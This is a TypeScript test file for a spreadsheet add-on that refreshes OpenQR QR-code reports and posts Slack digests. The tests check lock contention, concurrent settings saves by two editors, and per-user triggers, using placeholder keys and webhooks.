  const runs: Array<[string, (world: FaultWorld) => string]> = [
    ["Refresh now from the sidebar", (world) => world.refreshNow().message],
    [
      "Refresh reports now from the menu",
      (world) => {
        world.gas.run("onOpen", [{ authMode: "FULL" }], { authMode: "FULL" });
        const report = world.gas.runMenuItem("Refresh reports now") as LastRun;
        expect(world.gas.ui.toasts.at(-1)?.message).toBe(report.message);
        return report.message;
      },
    ],
    [
      "the scheduled run",
      (world) => {
        world.fireSchedule();
        return world.lastRun().message;
      },
    ],
  ];

  it.each(runs)(
    "%s while another refresh holds the lock: stops at once, changes nothing, says so",
    (_who, run) => {
      const world = createFaultWorld();
      world.gas.clock.advance(DAY_MS);
      const before = allReportValues(world);
      const from = world.api.requests.length;
      const posts = world.slack.posts.length;
      world.gas.locks.holdByAnotherProcess("document");
      expect(run(world)).toBe(MSG.busy);
      expect(world.lastRun()).toMatchObject({ ok: false, message: MSG.busy });
      expect(allReportValues(world)).toBe(before);
      expect(world.api.requests.length).toBe(from);
      expect(world.slack.posts.length).toBe(posts);
      // Once the other run has finished, the next one goes ahead.
      world.gas.locks.releaseOtherProcess("document");
      expect(world.refreshNow()).toMatchObject({ ok: true, refreshed: 12 });
      expectNoDuplicateRows(world);
      expectRowQuotes(CONCURRENCY_ROWS.refreshDuringRefresh, MSG.busy);
      expectCleanAndSecret(world);
    },
  );

  const EDITOR_WEBHOOK = `${FAKE_SLACK_PREFIX}T111/B111/EDITORSECRET`;
  const EDITOR_KEY = "oqr_live_editor00000000000000";

  it("saving settings while another editor saves (or a refresh runs): nothing of it is saved, and it says so", () => {
    const world = createFaultWorld();
    world.call("saveApiKey", [KEY], EDITOR);
    const shared = world.gas.properties.document.get("openqr.reportSettings");
    world.gas.locks.holdByAnotherProcess("document");
    const attempt = world.tryCall(
      "saveSettings",
      [{ ...FAULT_SETTINGS, days: 30, schedule: "daily", slackWebhookUrl: EDITOR_WEBHOOK }],
      EDITOR,
    );
    expect(attempt).toEqual({ ok: false, error: MSG.saveBusy });
    expect(world.gas.properties.document.get("openqr.reportSettings")).toBe(shared);
    expect(world.gas.triggers.filter((t) => t.owner === EDITOR)).toEqual([]);
    expect([...world.gas.properties.user(EDITOR).keys()]).toEqual(["openqr.apiKey"]);
    expectRowQuotes(CONCURRENCY_ROWS.saveDuringSave, MSG.saveBusy);
    assertNoFormulas(world);
    assertNothingLeaked(world, [], [EDITOR_WEBHOOK, "EDITORSECRET"]);
  });

  it("two editors saving in turn: the last Days and Codes are the file's; keys, schedules and webhooks stay each one's", () => {
    const world = createFaultWorld();
    world.slack.addWebhook(EDITOR_WEBHOOK);
    world.call("saveApiKey", [KEY], EDITOR);
    const [a, b] = [world.id("festival-gate"), world.id("spring-sale")];
    world.call(
      "saveSettings",
      [
        {
          ...FAULT_SETTINGS,
          days: 14,
          codes: [a, b],
          schedule: "daily",
          hour: 9,
          slackWebhookUrl: EDITOR_WEBHOOK,
        },
      ],
      EDITOR,
    );
    const owner = world.call("getSettings") as Settings;
    const editor = world.call("getSettings", [], EDITOR) as Settings;
    expect(owner).toMatchObject({ days: 14, codes: [a, b], schedule: "hourly", webhookKind: "slack" });
    expect(editor).toMatchObject({
      days: 14,
      codes: [a, b],
      schedule: "daily",
      hour: 9,
      webhookKind: "slack",
    });
    // The owner saves again without touching Slack: the editor's trigger and webhook stay.
    world.call("saveSettings", [{ ...FAULT_SETTINGS, codes: "all" }]);
    expect(world.call("getSettings", [], EDITOR)).toMatchObject({
      days: DAYS,
      codes: "all",
      schedule: "daily",
    });
    expect(world.gas.triggers.map((t) => t.owner).sort()).toEqual([EDITOR, OWNER]);
    expect(world.gas.properties.user(OWNER).get(`openqr.slackWebhook.${world.gas.spreadsheet.id}`)).toBe(
      SLACK_WEBHOOK,
    );
    expect(world.gas.properties.user(EDITOR).get(`openqr.slackWebhook.${world.gas.spreadsheet.id}`)).toBe(
      EDITOR_WEBHOOK,
    );
    expect(CONCURRENCY_ROWS.twoEditorsSave.userSees).toContain(
      "The last save's Days and Codes apply to both editors",
    );
    assertNoFormulas(world);
    assertNothingLeaked(world, [], [EDITOR_WEBHOOK, "EDITORSECRET"]);
  });

  it("two users' triggers on one file: both refresh, no duplicate rows, each digest to its own webhook", () => {
    const world = createFaultWorld();
    world.api.addKey(EDITOR_KEY);
    world.slack.addWebhook(EDITOR_WEBHOOK);
    world.call("saveApiKey", [EDITOR_KEY], EDITOR);
    world.call("saveSettings", [{ ...FAULT_SETTINGS, slackWebhookUrl: EDITOR_WEBHOOK }], EDITOR);
    const trigger = (user: string) => world.gas.triggers.find((t) => t.owner === user)!;
    const before = dailySnapshot(world);
    const from = world.gas.http.length;

    for (let run = 0; run < 3; run++) {
      world.gas.fireTrigger(trigger(OWNER).uid);
      expect(world.lastRun()).toMatchObject({ ok: true, trigger: "scheduled", refreshed: 12 });
      world.gas.fireTrigger(trigger(EDITOR).uid);
      expect(world.lastRun()).toMatchObject({ ok: true, trigger: "scheduled", refreshed: 12 });
      world.gas.clock.advance(HOUR_MS);
    }
    expect(dailySnapshot(world)).toHaveLength(before.length);
    expectNoDuplicateRows(world);
    expectArchiveKept(world, before);
    // One digest each, to each user's own webhook.
    expect(world.slack.posts.map((post) => post.url)).toEqual([SLACK_WEBHOOK, EDITOR_WEBHOOK]);
    expect(world.slack.messages).toHaveLength(2);
    // Each run used its owner's key.
    const keys = world.gas.http
      .slice(from)
      .filter((r) => r.url.startsWith("https://openqr.uk/"))
      .map((r) => r.headers.authorization);
    expect(new Set(keys)).toEqual(new Set([`Bearer ${KEY}`, `Bearer ${EDITOR_KEY}`]));
    expect(CONCURRENCY_ROWS.twoUsersTriggers.userSees).toContain("their own webhook");

    assertNoFormulas(world);
    // The shared leak check expects the owner's key on every OpenQR request: the editor's
    // requests are checked here (their key only in the header), then left out of it.
    const editorRequests = world.gas.http.filter((r) => r.headers.authorization === `Bearer ${EDITOR_KEY}`);
    for (const request of editorRequests) {
      expect(request.url.startsWith("https://openqr.uk/")).toBe(true);
      expect(`${request.url}\n${request.body}`).not.toContain(EDITOR_KEY.slice(4));
    }
    const ownerView: FaultWorld = {
      ...world,
      gas: { ...world.gas, http: world.gas.http.filter((r) => !editorRequests.includes(r)) },
    };
    assertNothingLeaked(ownerView, [], [EDITOR_KEY, EDITOR_KEY.slice(4), EDITOR_WEBHOOK, "EDITORSECRET"]);
  });
});
